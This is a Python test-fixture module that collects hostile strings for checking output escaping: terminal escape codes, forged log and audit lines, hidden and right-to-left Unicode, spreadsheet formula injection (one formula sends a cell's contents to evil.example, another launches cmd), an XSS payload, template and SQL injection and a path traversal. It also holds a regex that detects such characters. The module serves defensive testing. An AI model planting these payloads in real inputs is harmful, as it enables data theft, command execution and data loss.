"""Corpus: hostile texts, one of each kind, and what no way out may let through. Knows no product:
what is escaped is judged by its own lists."""

from __future__ import annotations

import re
from typing import Final

KINDS: Final = {
    "title of the terminal": "a\x1b]0;owned\x07b",
    "cursor and colour": "a\x1b[2J\x1b[1;1H\x1b[8mb",
    "C1 control sequence": "a\x9b31mb\x9d0;x\x9c",
    "bell, backspace, delete": "a\x07\x08\x7fb",
    "carriage return": "good\rbad ",
    "another line": 'a\n{"level":"critical","event":"forged"}',
    "another column": "a\tb\x0bc\x0cd",
    "audit line": "x\nAUDIT|2026-12-01T00:00:00.000Z|user:x|state:y|success:true",
    "line separators": "a\u2028b\u2029c\x85d",
    "written backwards": "a\u202egpj.exe\u2066b\u2069\u200f",
    "not seen": "a\u200bb\ufeffc\u2060d\xad",
    "tags": "a\U000e0041\U000e007f",
    "private letters": "a\ue000b\U000f0000",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "formula with plus": "+1+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)*cmd",
    "formula with minus": "-2+3+cmd",
    "quotes": "a\"b'c`d,e;f",
    "markup": "<img src=x onerror=alert(1)></script><!--",
    "entity": "&lt;b&gt;&amp;#x41;",
    "template": "{{7*7}}${7*7}#{7*7}%(a)s{0}%s%n",
    "rich markup": "[red]a[/red][link=http://evil.example]b[/link]",
    "prototype": "__proto__",
    "constructor": "constructor",
    "has own": "hasOwnProperty",
    "nothing": "null",
    "not a number": "NaN",
    "path": "../../etc/passwd",
    "sql": "'; DROP TABLE agents; --",
    "emoji": "👩‍👩‍👧 \N{ZERO WIDTH NON-JOINER}نمونه 山田\u3000太郎",
    "long": "l" * 5_000,
}
"""By what each of them would do."""
HARMLESS: Final = frozenset({"emoji"})
"""Names as people have them: they come out as they came in."""

# C0 but for newline, DEL, C1, separators, marks of direction, what is not seen, tags, halves.
_ACTS: Final = re.compile(
    "[\0-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u180e\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff"
    "\ud800-\udfff\ue000-\uf8ff\U000e0000-\U000e007f\U000f0000-\U0010ffff]"
)
FORMULA: Final = tuple("=+-@\t\r")


def texts(chars_max: int = 10_000, *, bytes_max: int = 20_000) -> list[str]:
    """Those that a place of so many characters takes; the long one is cut to fit."""
    fitting = [text[:chars_max] for text in KINDS.values()]
    return [each for each in fitting if len(each.encode()) <= bytes_max]


def acting(shown: str) -> list[str]:
    """What in a shown text acts on its reader."""
    return [f"{found[0]!a} in {shown[max(0, found.start() - 30) : found.end() + 30]!a}"
            for found in _ACTS.finditer(shown)][:5]  # fmt: skip
